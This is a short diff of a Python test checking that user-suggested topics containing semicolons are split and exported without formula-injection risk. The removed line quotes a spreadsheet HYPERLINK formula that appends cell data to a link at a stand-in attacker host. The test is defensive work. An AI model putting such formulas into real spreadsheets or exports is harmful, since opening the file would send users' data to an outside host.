@@ -36,7 +36,7 @@ def test_a_ticked_suggestion_with_a_semicolon_is_split_and_exported_safely(
     with engine.connect() as connection:
         eve = store.get_by_email(connection, "eve@example.org")
     assert all(";" not in topic for topic in eve.topics)
-    assert '=HYPERLINK("http://evil.example/?"&A1' in eve.topics  # a topic of its own
+    assert FORMULA.split(";")[1] in eve.topics  # a topic of its own
     cell = exported_topics(cli)["eve@example.org"]
     assert all(piece[:1] not in FORMULA_START for piece in cell.split(";")), cell
 
